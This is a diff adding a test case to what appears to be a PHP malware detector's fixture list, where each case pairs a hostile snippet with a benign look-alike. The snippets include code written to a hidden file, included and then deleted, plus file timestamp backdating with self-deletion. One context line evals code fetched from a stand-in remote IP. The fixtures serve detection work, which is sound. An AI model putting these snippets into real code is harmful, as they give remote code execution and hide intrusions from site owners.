@@ -60,6 +60,10 @@ CASES = [
      "<?php echo 'ok'; if (file_exists('./lib.php')) { touch('./lib.php', (time() - 60 * 60 * 24 * 90)); }\n"
      "unlink(__FILE__);",
      "<?php touch($cache, time() - 3600); /* expire the cache */ if ($done) { @unlink(__DIR__ . '/install.lock'); }"),
+    ("included_then_deleted",
+     "<?php $hdl = fopen(\"$dir/.cache\", 'w'); fwrite($hdl, \"<?php\\n$m[1]\\n?>\"); fclose($hdl);\n"
+     "include(\"$dir/.cache\"); unlink(\"$dir/.cache\");",
+     "<?php include $compiled; if (time() > $expires) { unlink($lock); }\ninclude 'config.php'; @unlink('install.lock');"),
     ("remote_code_evaluated",
      "<?=@null; @eval/**/('?>' . file_get_contents/**/('https://203.0.113.9/p/a.txt'));",
      "<?php echo htmlspecialchars(file_get_contents('https://example.org/news.txt'));\n"
